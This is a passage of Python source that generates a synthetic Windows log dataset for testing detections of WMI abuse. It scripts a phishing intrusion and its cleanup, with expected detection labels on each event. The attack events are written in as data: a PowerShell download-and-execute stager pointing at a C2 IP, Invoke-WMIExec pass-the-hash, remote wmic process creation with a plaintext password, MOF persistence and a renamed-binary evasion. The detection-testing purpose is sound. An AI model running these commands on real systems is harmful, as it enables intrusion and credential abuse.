                label="CONTEXT",
                note="cmd.exe parent: not wmic",
                near=tuple(sorted(child_expect.fires)),
            ),
            sysmon=sysmon,
            sec=sec,
        )
        child = w.proc(
            parent.host,
            t + ms(31),
            child_image,
            cmd_child(command),
            parent.logon,
            c,
            integrity=parent.integrity,
            cwd=parent.cwd,
        )
        self.start(child, child_expect, sysmon=sysmon, sec=sec)
        return c, child

    def ps4104(
        self,
        host: Host,
        t: datetime,
        file: str,
        ps: Proc | None,
        account: Account,
        parts: list[str],
        expects: list[Expect],
        *,
        path: str = "",
        level: int = 5,
    ) -> None:
        block_id = "{" + self.w.uuid() + "}"
        for i, (text, expect) in enumerate(zip(parts, expects, strict=True), start=1):
            self._win(
                host,
                t + ms(4 * i),
                POWERSHELL,
                4104,
                file,
                [
                    ("MessageNumber", str(i)),
                    ("MessageTotal", str(len(parts))),
                    ("ScriptBlockText", text),
                    ("ScriptBlockId", block_id),
                    ("Path", path),
                ],
                expect,
                user_sid=account.sid,
                exec_pid=ps.pid if ps else 4312,
                level=level,
                activity_id="{" + self.w.uuid().upper() + "}",
            )

    def wmi_5857(
        self, host: Host, t: datetime, file: str, provider: str, pid: int, path: str
    ) -> None:
        data = [
            ("ProviderName", provider),
            ("Code", "0x0"),
            ("HostProcess", "wmiprvse.exe"),
            ("ProcessID", str(pid)),
            ("ProviderPath", path),
        ]
        msg = (
            f"{provider} provider started with result code 0x0. HostProcess = wmiprvse.exe; "
            f"ProcessID = {pid}; ProviderPath = {path}"
        )
        self._win(
            host,
            t,
            WMI,
            5857,
            file,
            data,
            E(),
            userdata="Operation_StartedOperational",
            message=msg,
            user_sid=SYSTEM.sid,
            exec_pid=pid,
        )

    def wmi_5859(self, host: Host, t: datetime, file: str, pid: int) -> None:
        """The SCM Event Log Filter (a Windows default permanent filter) starting at boot."""
        query, owner, provider = (
            "select * from MSFT_SCMEventLogEvent",
            "S-1-5-32-544",
            "SCM Event Provider",
        )
        data = [
            ("NamespaceName", "//./root/cimv2"),
            ("Query", query),
            ("User", owner),
            ("Processid", str(pid)),
            ("Provider", provider),
            ("queryid", "0"),
            ("PossibleCause", "Permanent"),
        ]
        msg = (
            f"Namespace = //./root/cimv2; NotificationQuery = {query}; OwnerName = {owner}; "
            f"HostProcessID = {pid};  Provider= {provider}, queryID = 0; "
            "PossibleCause = Permanent"
        )
        self._win(
            host,
            t,
            WMI,
            5859,
            file,
            data,
            E(label="BENIGN", note="default permanent filter started (no detection uses 5859)"),
            userdata="Operation_EssStarted",
            message=msg,
            user_sid=SYSTEM.sid,
            exec_pid=pid,
        )

    def wmi_5860(
        self,
        host: Host,
        t: datetime,
        file: str,
        namespace: str,
        query: str,
        user: str,
        pid: int,
        expect: Expect,
        *,
        text_namespace: str = "",
        eid_as_text: bool = False,
    ) -> None:
        data = [
            ("NamespaceName", namespace),
            ("Query", query),
            ("User", user),
            ("Processid", str(pid)),
            ("ClientMachine", host.name),
            ("PossibleCause", "Temporary"),
        ]
        msg = (
            f"Namespace = {text_namespace or namespace}; NotificationQuery = {query}; "
            f"UserName = {user}; ClientProcessID = {pid}, ClientMachine = {host.name}; "
            "PossibleCause = Temporary"
        )
        self._win(
            host,
            t,
            WMI,
            5860,
            file,
            data,
            expect,
            userdata="Operation_TemporaryEssStarted",
            message=msg,
            user_sid=SYSTEM.sid,
            exec_pid=1208,
            nxlog_eid_as_text=eid_as_text,
        )

    def wmi_5861(
        self,
        host: Host,
        t: datetime,
        file: str,
        namespace: str,
        ess: str,
        consumer: str,
        cause: str,
        expect: Expect,
    ) -> None:
        data = [
            ("Namespace", namespace),
            ("ESS", ess),
            ("CONSUMER", consumer),
            ("PossibleCause", cause),
        ]
        msg = (
            f"Namespace = {namespace}; Eventfilter = {ess} (refer to its activate "
            f"eventid:5859); Consumer = {consumer}; PossibleCause = {cause}"
        )
        self._win(
            host,
            t,
            WMI,
            5861,
            file,
            data,
            expect,
            userdata="Operation_ESStoConsumerBinding",
            message=msg,
            user_sid=SYSTEM.sid,
            exec_pid=1208,
        )

    def sysmon_wmi(
        self,
        host: Host,
        t: datetime,
        file: str,
        eid: int,
        operation: str,
        user: Account,
        fields: list[tuple[str, str]],
        expect: Expect,
    ) -> None:
        event_type = {19: "WmiFilterEvent", 20: "WmiConsumerEvent", 21: "WmiBindingEvent"}[eid]
        data = [
            ("RuleName", "-"),
            ("EventType", event_type),
            ("UtcTime", utc_ms(t)),
            ("Operation", operation),
            ("User", user.qualified),
            *fields,
        ]
        self._win(host, t + ms(3.1), SYSMON, eid, file, data, expect)

    # the story -------------------------------------------------------------------
    def build(self) -> list[Ev]:
        self.background_and_ws01()
        self.ws02()
        self.dc01_noise()
        return self.w.events

    def background_and_ws01(self) -> None:
        w = self.w
        boot = at("07:41:05")
        # ---------------- WS01: pre-existing processes (not logged in the window)
        ws_sys = service_logon(SYSTEM, boot)
        ws_services = w.proc(
            WS01,
            boot,
            "C:\\Windows\\System32\\services.exe",
            "C:\\Windows\\system32\\services.exe",
            ws_sys,
            None,
            integrity="System",
        )
        ws_dcom = w.proc(
            WS01,
            boot + ms(900),
            SVCHOST_EXE,
            "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p",
            ws_sys,
            ws_services,
            integrity="System",
        )
        jdoe = Logon(JDOE, 0x1F3A2B1, at("08:02:10.118"), 1)
        jdoe_high = Logon(JDOE, 0x1F3A2E6, at("08:02:10.118"), 1)
        winlogon = w.proc(
            WS01,
            boot,
            "C:\\Windows\\System32\\winlogon.exe",
            "winlogon.exe",
            ws_sys,
            None,
            integrity="System",
            meta_key="svchost.exe",
        )
        userinit = w.proc(
            WS01,
            at("08:02:13.870"),
            "C:\\Windows\\System32\\userinit.exe",
            "C:\\Windows\\system32\\userinit.exe",
            jdoe,
            winlogon,
        )
        self._win(
            WS01,
            at("08:02:10.131"),
            SECURITY,
            4624,
            "ws01_security.xml",
            security_4624(
                WS01,
                jdoe,
                2,
                ip="127.0.0.1",
                port="0",
                workstation="WS01",
                process=("0x2f4", "C:\\Windows\\System32\\svchost.exe"),
                elevated=False,
            ),
            E(note="jdoe signs in at the console (interactive, type 2)"),
        )
        self._win(
            WS01,
            at("08:02:10.133"),
            SECURITY,
            4624,
            "ws01_security.xml",
            security_4624(
                WS01,
                jdoe_high,
                2,
                ip="127.0.0.1",
                port="0",
                workstation="WS01",
                process=("0x2f4", "C:\\Windows\\System32\\svchost.exe"),
            ),
            E(note="the elevated linked token of the same sign-in (jdoe is a local admin)"),
        )
        self._win(
            WS01,
            at("08:02:10.135"),
            SECURITY,
            4672,
            "ws01_security.xml",
            [
                ("SubjectUserSid", JDOE.sid),
                ("SubjectUserName", "jdoe"),
                ("SubjectDomainName", DOMAIN),
                ("SubjectLogonId", hexid(jdoe_high.logon_id)),
                (
                    "PrivilegeList",
                    "SeSecurityPrivilege\r\n\t\t\tSeBackupPrivilege\r\n\t\t\tSeDebugPrivilege",
                ),
            ],
            E(note="not modelled: counted as skipped"),
        )
        explorer = self.start(
            w.proc(
                WS01,
                at("08:02:14.402"),
                "C:\\Windows\\explorer.exe",
                "C:\\Windows\\Explorer.EXE",
                jdoe,
                userinit,
            ),
            E(note="desktop shell"),
        )
        wmiprvse = self.start(
            w.proc(
                WS01,
                at("08:03:40.511"),
                WMIPRVSE_EXE,
                "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
                service_logon(NETWORK_SERVICE, boot),
                ws_dcom,
                integrity="System",
            ),
            E(
                label="BENIGN-LOOKALIKE",
                near=(3,),
                note="WmiPrvSE.exe itself, child of svchost: it is not a parent here",
            ),
        )
        self.start(
            w.proc(
                WS01,
                at("08:05:02.020"),
                "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
                '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" ',
                jdoe,
                explorer,
                cwd="C:\\Program Files\\Google\\Chrome\\Application\\",
            ),
            E(note="browser"),
        )
        ws_wmi = "ws01_wmi_activity.xml"
        self.wmi_5859(WS01, at("07:41:49.702"), ws_wmi, 1208)
        self.wmi_5857(
            WS01,
            at("08:03:41.007"),
            ws_wmi,
            "CIMWin32",
            wmiprvse.pid,
            "%systemroot%\\system32\\wbem\\cimwin32.dll",
        )
        self.wmi_5860(
            WS01,
            at("07:41:52.300"),
            ws_wmi,
            "//./root/CIMV2",
            DEFAULT_Q_WSMAN,
            "NT AUTHORITY\\SYSTEM",
            1436,
            E(
                label="BENIGN-LOOKALIKE",
                near=(10,),
                note="Windows default temporary subscription (WinRM)",
            ),
        )
        self.wmi_5860(
            WS01,
            at("07:41:58.911"),
            ws_wmi,
            "//./root/SecurityCenter2",
            DEFAULT_Q_AV,
            "NT AUTHORITY\\SYSTEM",
            2212,
            E(
                label="BENIGN-LOOKALIKE",
                near=(10,),
                note="Windows default temporary subscription (Security Center)",
            ),
        )
        self.wmi_5861(
            WS01,
            at("07:41:49.640"),
            ws_wmi,
            "//./root/subscription",
            "SCM Event Log Filter",
            SCM_CONSUMER,
            SCM_CAUSE,
            E(
                label="BENIGN-LOOKALIKE",
                near=(8,),
                note="Windows default binding, re-activated at every boot",
            ),
        )
        inv_ps = w.proc(
            WS01,
            at("08:30:00.210"),
            PS_EXE,
            "powershell.exe -NoProfile -ExecutionPolicy Bypass -File "
            '"C:\\ProgramData\\ExampleCorp\\Inventory\\inventory.ps1"',
            service_logon(SYSTEM, boot),
            ws_dcom,
            integrity="System",
        )
        self.start(inv_ps, E(note="nightly inventory task"))
        self.ps4104(
            WS01,
            at("08:30:01.100"),
            "ws01_powershell.xml",
            inv_ps,
            SYSTEM,
            [INVENTORY_PS],
            [E(near=(2,), note="benign CIM query (Get-CimInstance)")],
            path="C:\\ProgramData\\ExampleCorp\\Inventory\\inventory.ps1",
        )

        # ---------------- SRV01 and DC01 background (morning)
        srv = self.srv = self.srv01_morning()
        dc = self.dc01_morning()

        # ---------------- 09:04 WS01: the phish
        ps1 = self.start(
            w.proc(
                WS01,
                at("09:04:51.377"),
                PS_EXE,
                f'"{PS_EXE}" -nop -w hidden -ep bypass -c "IEX (New-Object Net.WebClient).'
                f"DownloadString('http://{C2_IP}/a.ps1')\"",
                jdoe,
                explorer,
                cwd="C:\\Users\\jdoe\\Downloads\\",
            ),
            E(
                label="CONTEXT",
                note="initial access: the invoice shortcut starts a hidden PowerShell stager",
            ),
        )
        self._win(
            WS01,
            at("09:04:52.010"),
            SYSMON,
            3,
            "ws01_sysmon.xml",
            [
                ("RuleName", "-"),
                ("UtcTime", utc_ms(at("09:04:52.006"))),
                ("ProcessGuid", ps1.guid),
                ("ProcessId", str(ps1.pid)),
                ("Image", PS_EXE),
                ("User", JDOE.qualified),
                ("Protocol", "tcp"),
                ("Initiated", "true"),
                ("SourceIsIpv6", "false"),
                ("SourceIp", WS01.ip),
                ("SourceHostname", WS01.fqdn),
                ("SourcePort", "50112"),
                ("SourcePortName", "-"),
                ("DestinationIsIpv6", "false"),
                ("DestinationIp", C2_IP),
                ("DestinationHostname", "-"),
                ("DestinationPort", "80"),
                ("DestinationPortName", "http"),
            ],
            E(label="CONTEXT", note="network connection to the stager host: not modelled"),
        )
        self.ps4104(
            WS01,
            at("09:04:52.500"),
            "ws01_powershell.xml",
            ps1,
            JDOE,
            [f"IEX (New-Object Net.WebClient).DownloadString('http://{C2_IP}/a.ps1')"],
            [E(label="CONTEXT", note="stager")],
            level=3,
        )

        # ---------------- 09:07 recon with wmic (T1047-1..4), via cmd like ART's runner
        self.via_cmd(
            ps1,
            at("09:07:02.114"),
            "wmic useraccount get /ALL /format:csv",
            child_expect=E(
                label="NEAR-MISS",
                near=(11, 12),
                note="ART T1047-1: /format:csv is a built-in format",
            ),
        )
        self.via_cmd(
            ps1,
            at("09:07:30.871"),
            "wmic process get caption,executablepath,commandline /format:csv",
            child_expect=E(
                label="NEAR-MISS", near=(4, 7), note="ART T1047-2: 'process' without 'call create'"
            ),
        )
        self.via_cmd(
            ps1,
            at("09:07:55.203"),
            "wmic qfe get description,installedOn /format:csv",
            child_expect=E(label="CONTEXT", note="ART T1047-3: hotfix recon"),
        )
        self.via_cmd(
            ps1,
            at("09:08:40.650"),
            'wmic /node:"127.0.0.1" service where (caption like "%Spooler%")',
            child_expect=E((5,), note="ART T1047-4: remote service listing (loopback node)"),
        )
        self.via_cmd(
            ps1,
            at("09:09:30.019"),
            "wmic processcall create notepad.exe",
            child_expect=E(
                label="NEAR-MISS",
                near=(7,),
                note="typo 'processcall': no ' process ' token, and wmic rejects it",
            ),
        )
        # T1220 with wmic_command=os get and a local XSL file (detection 12)
        self._win(
            WS01,
            at("09:09:58.120"),
            SYSMON,
            11,
            "ws01_sysmon.xml",
            [
                ("RuleName", "-"),
                ("UtcTime", utc_ms(at("09:09:58.117"))),
                ("ProcessGuid", ps1.guid),
                ("ProcessId", str(ps1.pid)),
                ("Image", PS_EXE),
                ("TargetFilename", "C:\\Users\\Public\\x.xsl"),
                ("CreationUtcTime", utc_ms(at("09:09:58.117"))),
                ("User", JDOE.qualified),
            ],
            E(label="CONTEXT", note="the stager drops x.xsl: file creation is not modelled"),
        )
        xsl = self.start(
            w.proc(
                WS01,
                at("09:10:05.441"),
                WMIC_EXE,
                f'"{WMIC_EXE}" os get /format:"C:\\Users\\Public\\x.xsl"',
                jdoe,
                ps1,
                cwd="C:\\Users\\jdoe\\Downloads\\",
            ),
            E((12,), note="T1220 with a local XSL (FIN7 pattern), started by PowerShell directly"),
        )
        self.start(
            w.proc(
                WS01,
                at("09:10:06.002"),
                "C:\\Windows\\System32\\calc.exe",
                '"C:\\Windows\\System32\\calc.exe"',
                jdoe,
                xsl,
                cwd="C:\\Users\\jdoe\\Downloads\\",
            ),
            E(label="CONTEXT", note="the XSL's JScript payload (child of WMIC.exe)"),
        )

        # ---------------- 09:12 local process creation through WMI (T1047-7, T1047-8)
        enc = (
            "SQBuAHYAbwBrAGUALQBXAG0AaQBNAGUAdABoAG8AZAAgAC0AUABhAHQAaAAgAHcAaQBuADMAMgBfAHAA"
            "cgBvAGMAZQBzAHMAIAAtAE4AYQBtAGUAIABjAHIAZQBhAHQAZQAgAC0AQQByAGcAdQBtAGUAbgB0AEwA"
            "aQBzAHQAIABuAG8AdABlAHAAYQBkAC4AZQB4AGUA"
        )
        _, ps_enc = self.via_cmd(
            ps1,
            at("09:12:20.330"),
            f"powershell -exec bypass -e {enc}",
            child_image=PS_EXE,
            cmd_expect=E(label="CONTEXT", note="ART T1047-7 launcher"),
            child_expect=E(label="CONTEXT", note="ART T1047-7: encoded Invoke-WmiMethod"),
        )
        self.ps4104(
            WS01,
            at("09:12:21.020"),
            "ws01_powershell.xml",
            ps_enc,
            JDOE,
            ["Invoke-WmiMethod -Path win32_process -Name create -ArgumentList notepad.exe"],
            [E(label="NEAR-MISS", near=(2,), note="Invoke-WmiMethod is not Invoke-WmiExec")],
        )
        self.start(
            w.proc(WS01, at("09:12:21.610"), NOTEPAD_EXE, "notepad.exe", jdoe, wmiprvse),
            E((3,), note="T1047-7 result: notepad started by WmiPrvSE"),
        )
        self.ps4104(
            WS01,
            at("09:13:30.200"),
            "ws01_powershell.xml",
            ps1,
            JDOE,
            [T1047_8_PS],
            [
                E(
                    label="NEAR-MISS",
                    near=(2,),
                    note="ART T1047-8: derived Win32_Process class evades 'Win32_Process' "
                    "keyword rules",
                )
            ],
            level=3,
        )
        self.start(
            w.proc(WS01, at("09:13:31.045"), NOTEPAD_EXE, "notepad.exe", jdoe, wmiprvse),
            E((3,), note="T1047-8 result: notepad started by WmiPrvSE"),
        )

        # ---------------- 09:15 Invoke-WMIExec (pass-the-hash) against SRV01
        self.ps4104(
            WS01,
            at("09:15:10.000"),
            "ws01_powershell.xml",
            ps1,
            JDOE,
            WMIEXEC_PARTS,
            [
                E(label="CONTEXT", note="part 1/3 of the Invoke-WMIExec script block", beyond=(2,)),
                E((2,), note="part 2/3 holds the function name"),
                E(label="CONTEXT", note="part 3/3 of the same script block", beyond=(2,)),
            ],
            level=3,
        )
        self.ps4104(
            WS01,
            at("09:16:01.500"),
            "ws01_powershell.xml",
            ps1,
            JDOE,
            [
                f"Invoke-WMIExec -Target {SRV01.ip} -Domain {DOMAIN} -Username adm-svc "
                f'-Hash {ADM_HASH} -Command "{WMIEXEC_CMD}" -Verbose'
            ],
            [E((2,), note="the call: pass-the-hash to SRV01")],
            level=3,
        )
        self.srv01_wmi_child(
            srv,
            at("09:16:03.210"),
            at("09:16:02.870"),
            0x3A71C04,
            "NTLM",
            WMIEXEC_CMD,
            grandchild=("C:\\Windows\\System32\\whoami.exe", "whoami  /all"),
            note="Invoke-WMIExec from WS01",
        )

        # ---------------- 09:20 T1047-6 with stolen credentials, and the 4648 it leaves
        creds = '/user:EXAMPLECORP\\adm-svc /password:P@ssw0rd1 /node:"SRV01.examplecorp.test"'
        _, wmic6 = self.via_cmd(
            ps1,
            at("09:20:10.500"),
            f"wmic {creds} process call create notepad.exe",
            child_expect=E((4, 5, 7), note="ART T1047-6 against SRV01"),
        )
        self._win(
            WS01,
            at("09:20:10.690"),
            SECURITY,
            4648,
            "ws01_security.xml",
            security_4648(WS01, jdoe, ADM_SVC, SRV01.fqdn, f"RPCSS/{SRV01.fqdn}", wmic6),
            E(label="CONTEXT", note="explicit credentials for adm-svc, target SRV01"),
        )
        self.srv01_wmi_child(
            srv,
            at("09:20:11.400"),
            at("09:20:11.020"),
            0x3A7F5E2,
            "Kerberos",
            "notepad.exe",
            note="ART T1047-6 from WS01",
        )
        _, wmic6c = self.via_cmd(
            ps1,
            at("09:21:30.004"),
            f"wmic {creds} process where name='notepad.exe' delete",
            child_expect=E((5,), note="ART T1047-6 cleanup"),
        )
        self._win(
            WS01,
            at("09:21:30.170"),
            SECURITY,
            4648,
            "ws01_security.xml",
            security_4648(WS01, jdoe, ADM_SVC, SRV01.fqdn, f"RPCSS/{SRV01.fqdn}", wmic6c),
            E(label="CONTEXT", note="explicit credentials again (cleanup)"),
        )

        # ---------------- 09:24 runas /netonly, then evasion variants against SRV01
        runas = self.start(
            w.proc(
                WS01,
                at("09:24:00.250"),
                "C:\\Windows\\System32\\runas.exe",
                f"runas.exe /netonly /user:{ADM_SVC.qualified} powershell.exe",
                jdoe,
                ps1,
                cwd="C:\\Users\\jdoe\\Downloads\\",
            ),
            E(label="CONTEXT", note="network-only logon with adm-svc's password"),
        )
        netonly = Logon(JDOE, 0x2A61C07, at("09:24:05.100"), 1)
        self._win(
            WS01,
            at("09:24:05.080"),
            SECURITY,
            4648,
            "ws01_security.xml",
            security_4648(
                WS01,
                jdoe,
                ADM_SVC,
                "localhost",
                "localhost",
                None,
                "C:\\Windows\\System32\\svchost.exe",
            ),
            E(label="CONTEXT", note="runas /netonly: explicit credentials, target localhost"),
        )
        self._win(
            WS01,
            at("09:24:05.100"),
            SECURITY,
            4624,
            "ws01_security.xml",
            security_4624(
                WS01,
                netonly,
                9,
                ip="::1",
                port="0",
                workstation="WS01",
                process=("0x1c4", "C:\\Windows\\System32\\svchost.exe"),
                outbound=ADM_SVC,
                elevated=False,
            ),
            E(label="CONTEXT", note="logon type 9 (NewCredentials), outbound adm-svc"),
        )
        ps2 = self.start(
            w.proc(
                WS01,
                at("09:24:05.400"),
                PS_EXE,
                "powershell.exe",
                netonly,
                runas,
                cwd="C:\\Users\\jdoe\\Downloads\\",
            ),
            E(label="CONTEXT", note="attacker shell with adm-svc network credentials"),
        )
        self.via_cmd(
            ps2,
            at("09:25:10.010"),
            'WMIC.EXE /NODE:SRV01 PROCESS CALL CREATE "cmd.exe /c ipconfig /all > '
            'C:\\Windows\\Temp\\ip.txt"',
            child_expect=E(
                (4, 5, 7), note="upper-case WMIC.EXE /NODE: (matching is case-insensitive)"
            ),
        )
        self.srv01_wmi_child(
            srv,
            at("09:25:11.300"),
            at("09:25:10.900"),
            0x3A80A11,
            "Kerberos",
            "cmd.exe /c ipconfig /all > C:\\Windows\\Temp\\ip.txt",
            grandchild=("C:\\Windows\\System32\\ipconfig.exe", "ipconfig  /all"),
            note="upper-case WMIC from WS01",
        )
        self.start(
            w.proc(
                WS01,
                at("09:26:30.500"),
                WMIC_EXE,
                f'"{WMIC_EXE}" -node:SRV01 process call create "cmd.exe /c net session '
                '> C:\\Windows\\Temp\\ns.txt 2>&1"',
                netonly,
                ps2,
                cwd="C:\\Users\\jdoe\\Downloads\\",
            ),
            E((5, 7), near=(4,), note="'-node:' evades detection 4, which wants '/node:'"),
        )
        self.srv01_wmi_child(
            srv,
            at("09:26:31.700"),
            at("09:26:31.300"),
            0x3A81B37,
            "Kerberos",
            "cmd.exe /c net session > C:\\Windows\\Temp\\ns.txt 2>&1",
            grandchild=("C:\\Windows\\System32\\net.exe", "net  session"),
            note="'-node:' WMIC from WS01",
        )
        self.builtin(
            ps2,
            at("09:27:40.300"),
            "copy C:\\Windows\\System32\\wbem\\WMIC.exe C:\\Users\\Public\\Libraries\\wm.exe",
            "a renamed copy of wmic",
        )
        renamed = w.proc(
            WS01,
            at("09:28:00.775"),
            "C:\\Users\\Public\\Libraries\\wm.exe",
            '"C:\\Users\\Public\\Libraries\\wm.exe" /node:SRV01 process call create '
            '"cmd.exe /c tasklist /v > C:\\Windows\\Temp\\tl.txt"',
            netonly,
            ps2,
            meta_key="wmic.exe",
            cwd="C:\\Users\\jdoe\\Downloads\\",
        )
        self.start(
            renamed,
            E((4, 5, 7), label="TP", note="renamed wmic: caught through Sysmon's OriginalFileName"),
            sec_expect=E(
                label="EVASION-MISSED",
                near=(4, 5, 7),
                note="renamed wmic: 4688 has no OriginalFileName, so the literal "
                "predicates cannot see it",
            ),
        )
        self.srv01_wmi_child(
            srv,
            at("09:28:01.900"),
            at("09:28:01.500"),
            0x3A82C90,
            "Kerberos",
            "cmd.exe /c tasklist /v > C:\\Windows\\Temp\\tl.txt",
            grandchild=("C:\\Windows\\System32\\tasklist.exe", "tasklist  /v"),
            note="renamed wmic from WS01",
        )
        self.start(
            w.proc(
                WS01,
                at("09:31:00.040"),
                WMIC_EXE,
                f'"{WMIC_EXE}" /node:@C:\\Users\\Public\\targets.txt os get caption,version,csname',
                netonly,
                ps2,
                cwd="C:\\Users\\jdoe\\Downloads\\",
            ),
            E(
                (5,),
                near=(12,),
                note="/node:@file: one command, many targets; 'os get' without /format",
            ),
        )
        self.network_logon(
            SRV01,
            "srv01_winlogbeat.jsonl",
            at("09:31:00.610"),
            Logon(ADM_SVC, 0x3A84F05, at("09:31:00.610")),
            WS01,
            note="wmic /node:@targets.txt reaches SRV01 (no process started)",
        )
        self.network_logon(
            DC01,
            "dc01_security.xml",
            at("09:31:00.820"),
            Logon(ADM_SVC, 0x5E1C7A2, at("09:31:00.820")),
            WS01,
            version=0,
            note="wmic /node:@targets.txt reaches DC01 (no process started)",
        )
        self.via_cmd(
            ps2,
            at("09:33:12.900"),
            'wmic /node:"127.0.0.1" product where "name like \'Tightvnc%%\'" call uninstall',
            child_expect=E(
                (5,), near=(4, 7), note="ART T1047-10: 'call' without 'process ... create'"
            ),
        )

        # ---------------- 09:39 permanent subscription on WS01 (T1546.003-1), elevated
        ps3 = self.start(
            w.proc(
                WS01,
                at("09:39:50.300"),
                PS_EXE,
                f'"{PS_EXE}" ',
                jdoe_high,
                explorer,
                integrity="High",
                cwd="C:\\Windows\\system32\\",
            ),
            E(label="CONTEXT", note="elevated PowerShell (jdoe is a local admin)"),
        )
        self.ps4104(
            WS01,
            at("09:40:12.000"),
            "ws01_powershell.xml",
            ps3,
            JDOE,
            [T1546_1_PS],
            [E(label="CONTEXT", note="ART T1546.003-1: New-CimInstance filter, consumer, binding")],
        )
        name = ART_SUB_NAME
        filt = [
            ("EventNamespace", sysmon_quote("root\\CimV2")),
            ("Name", sysmon_quote(name)),
            ("Query", sysmon_quote(ART_SUB_QUERY)),
        ]
        cons = [
            ("Name", sysmon_quote(name)),
            ("Type", "Command Line"),
            ("Destination", sysmon_quote("C:\\Windows\\System32\\notepad.exe")),
        ]
        bind = [
            ("Consumer", sysmon_quote(f'CommandLineEventConsumer.Name="{name}"')),
            ("Filter", sysmon_quote(f'__EventFilter.Name="{name}"')),
        ]
        self.sysmon_wmi(
            WS01,
            at("09:40:12.310"),
            "ws01_sysmon.xml",
            19,
            "Created",
            JDOE,
            filt,
            E(label="CONTEXT", note="the filter (no detection uses Sysmon 19)"),
        )
        self.sysmon_wmi(
            WS01,
            at("09:40:12.330"),
            "ws01_sysmon.xml",
            20,
            "Created",
            JDOE,
            cons,
            E((1,), note="the CommandLineEventConsumer"),
        )
        self.sysmon_wmi(
            WS01,
            at("09:40:12.352"),
            "ws01_sysmon.xml",
            21,
            "Created",
            JDOE,
            bind,
            E((9,), note="the binding"),
        )
        self.wmi_5861(
            WS01,
            at("09:40:12.400"),
            ws_wmi,
            "//./root/subscription",
            name,
            f'CommandLineEventConsumer="{name}"',
            binding_cause(
                {
                    "CreatorSID": sid_bytes(JDOE.sid),
                    "EventNamespace": mof_string("root\\CimV2"),
                    "Name": mof_string(name),
                    "Query": mof_string(ART_SUB_QUERY),
                    "QueryLanguage": '"WQL"',
                },
                "CommandLineEventConsumer",
                {
                    "CommandLineTemplate": mof_string("C:\\Windows\\System32\\notepad.exe"),
                    "CreatorSID": sid_bytes(JDOE.sid),
                    "Name": mof_string(name),
                },
            ),
            E((8,), note="the binding, as WMI-Activity logs it"),
        )

        # ---------------- 09:45 a temporary subscription watching logons
        self.ps4104(
            WS01,
            at("09:45:20.000"),
            "ws01_powershell.xml",
            ps3,
            JDOE,
            [TEMP_SUB_PS],
            [E(label="CONTEXT", note="Register-CimIndicationEvent")],
        )
        self.wmi_5860(
            WS01,
            at("09:45:20.150"),
            ws_wmi,
            "//./root/cimv2",
            TEMP_SUB_QUERY,
            JDOE.qualified,
            ps3.pid,
            E((10,), note="attacker's temporary subscription"),
        )

        # ---------------- 09:50 WS01 -> DC01: mofcomp through WMI (T1546.003-3)
        self.builtin(
            ps2,
            at("09:50:02.500"),
            f"copy C:\\Users\\Public\\T1546.003.mof \\\\{DC01.fqdn}\\C$\\Windows\\Temp\\"
            "T1546.003.mof",
            "stage the MOF on DC01's admin share",
        )
        self.start(
            w.proc(
                WS01,
                at("09:51:05.000"),
                WMIC_EXE,
                f'"{WMIC_EXE}" /node:{DC01.fqdn} process call create '
                '"mofcomp.exe C:\\Windows\\Temp\\T1546.003.mof"',
                netonly,
                ps2,
                cwd="C:\\Users\\jdoe\\Downloads\\",
            ),
            E((4, 5, 7), note="remote mofcomp on DC01"),
        )
        self.dc01_persistence(dc)

        # ---------------- 10:05 the second Invoke-WMIExec script: the name spans two parts
        self.ps4104(
            WS01,
            at("10:05:00.000"),
            "ws01_powershell.xml",
            ps1,
            JDOE,
            ALIAS_PARTS,
            [
                E(label="NEAR-MISS", near=(2,), beyond=(2,), note="'Invoke-Wmi' ends part 1/2 ..."),
                E(
                    label="NEAR-MISS",
                    near=(2,),
                    beyond=(2,),
                    note="... 'Exec' starts part 2/2: only reassembly finds Invoke-WmiExec",
                ),
            ],
            level=3,
        )

        # ---------------- 13:30 incident response removes the WS01 subscription
        ir = Logon(IR_ANALYST, 0x4C1D2E9, at("13:30:02.000"), 2)
        self._win(
            WS01,
            at("13:30:02.010"),
            SECURITY,
            4624,
            "ws01_security.xml",
            security_4624(
                WS01,
                ir,
                10,
                ip=ADM01_IP,
                port="0",
                workstation="ADM01",
                process=("0x2f4", "C:\\Windows\\System32\\svchost.exe"),
            ),
            E(note="incident responder signs in over RDP (type 10)"),
        )
        ir_shell = self.start(
            w.proc(
                WS01,
                at("13:30:05.300"),
                "C:\\Windows\\explorer.exe",
                "C:\\Windows\\Explorer.EXE",
                ir,
                w.proc(
                    WS01,
                    at("13:30:04.900"),
                    "C:\\Windows\\System32\\userinit.exe",
                    "C:\\Windows\\system32\\userinit.exe",
                    ir,
                    winlogon,
                ),
            ),
            E(note="the responder's RDP desktop"),
        )
        ir_ps = self.start(
            w.proc(
                WS01, at("13:31:00.100"), PS_EXE, f'"{PS_EXE}" ', ir, ir_shell, integrity="High"
            ),
            E(note="responder's PowerShell"),
        )
        self.ps4104(
            WS01,
            at("13:31:40.000"),
            "ws01_powershell.xml",
            ir_ps,
            IR_ANALYST,
            [T1546_1_CLEANUP_PS],
            [E(note="cleanup: Get-WmiObject | Remove-WmiObject")],
        )
        self.sysmon_wmi(
            WS01,
            at("13:31:40.220"),
            "ws01_sysmon.xml",
            21,
            "Deleted",
            IR_ANALYST,
            bind,
            E((9,), label="TP-cleanup", note="binding removed by IR"),
        )
        self.sysmon_wmi(
            WS01,
            at("13:31:40.260"),
            "ws01_sysmon.xml",
            20,
            "Deleted",
            IR_ANALYST,
            cons,
            E((1,), label="TP-cleanup", note="consumer removed by IR"),
        )
        self.sysmon_wmi(
            WS01,
            at("13:31:40.300"),
            "ws01_sysmon.xml",
            19,
            "Deleted",
            IR_ANALYST,
            filt,
            E(label="CONTEXT", note="filter removed by IR"),
        )

    # ----------------------------------------------------------------- SRV01
    def srv01_morning(self) -> dict[str, Any]:
        w = self.w
        boot = at("06:12:44")
        sys_logon = service_logon(SYSTEM, boot)
        services = w.proc(
            SRV01,
            boot,
            "C:\\Windows\\System32\\services.exe",
            "C:\\Windows\\system32\\services.exe",
            sys_logon,
            None,
            integrity="System",
        )
        dcom = w.proc(
            SRV01,
            boot + ms(800),
            SVCHOST_EXE,
            "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p",
            sys_logon,
            services,
            integrity="System",
        )
        wmiprvse = self.start(
            w.proc(
                SRV01,
                at("07:55:12.600"),
                WMIPRVSE_EXE,
                "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
                service_logon(NETWORK_SERVICE, boot),
                dcom,
                integrity="System",
